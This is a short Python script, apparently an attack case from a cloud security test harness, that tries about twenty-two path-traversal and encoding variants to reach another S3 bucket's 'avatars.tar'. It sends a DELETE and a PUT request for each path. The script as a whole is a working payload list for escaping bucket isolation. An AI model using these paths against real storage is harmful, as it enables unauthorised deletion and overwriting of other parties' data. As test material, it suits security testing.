"""Reach the bucket that is not ours by the path of ours: dot segments, encoded slashes, empty parts, backslashes."""

# aims: aws
# control: none (an AWS takes such a path for a key)
# seconds: 30
from attack import tried
from cloud import SITE, UPLOADS, call

tried()
for path in (
    f"/{SITE}/../{UPLOADS}/avatars.tar", f"/{SITE}/%2e%2e/{UPLOADS}/avatars.tar", f"/{SITE}/..%2f{UPLOADS}%2favatars.tar",
    f"/{SITE}%2f..%2f{UPLOADS}/avatars.tar", f"/{SITE}/%252e%252e/{UPLOADS}/avatars.tar", f"//{UPLOADS}/avatars.tar",
    f"/./{UPLOADS}/avatars.tar", f"/{SITE}/..\\{UPLOADS}\\avatars.tar", f"/{SITE};/../{UPLOADS}/avatars.tar", f"/{UPLOADS}%2favatars.tar",
    f"/{SITE}/x/../../{UPLOADS}/avatars.tar", f"/{SITE}%00/../{UPLOADS}/avatars.tar", f"/{UPLOADS}/./avatars.tar", f"/{UPLOADS}//avatars.tar",
    f"/{UPLOADS.upper()}/avatars.tar", f"/{UPLOADS}./avatars.tar", f"/{SITE}?/../../{UPLOADS}/avatars.tar", f"/{UPLOADS}/avatars.tar#/{SITE}",
    f"/_svc/s3/{UPLOADS}/avatars.tar", f"/_svc/s3/../{UPLOADS}/avatars.tar", f"/_svc/rds/{UPLOADS}/avatars.tar", f"/_svc//{UPLOADS}/avatars.tar",
):  # fmt: skip
    for method in ("DELETE", "PUT"):
        call(method, path, service="s3")
